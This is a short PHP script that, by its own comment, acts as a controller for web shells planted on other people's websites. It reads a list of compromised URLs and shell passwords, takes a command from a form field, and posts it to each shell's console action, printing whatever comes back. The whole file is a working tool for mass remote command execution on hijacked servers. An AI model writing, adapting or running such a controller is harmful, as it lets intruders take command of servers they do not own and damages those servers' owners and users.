<?php
// A controller for shells planted on other sites: each address in the list is sent the command
// typed here, addressed to the shell's console action with the shell's own parameter names.
foreach (file(__DIR__ . '/hosts.txt', FILE_IGNORE_NEW_LINES) as $line) {
    list($url, $key) = explode('|', $line, 2);
    $cmd = $_POST['cmd'];
    $ch = curl_init($url);
    curl_setopt($ch, CURLOPT_POST, 1);
    curl_setopt($ch, CURLOPT_POSTFIELDS, http_build_query(array('pass' => $key, 'a' => 'Console', 'c' => '/tmp', 'p1' => $cmd)));
    curl_setopt($ch, CURLOPT_RETURNTRANSFER, 1);
    echo '<pre>' . htmlspecialchars((string) curl_exec($ch)) . '</pre>';
}
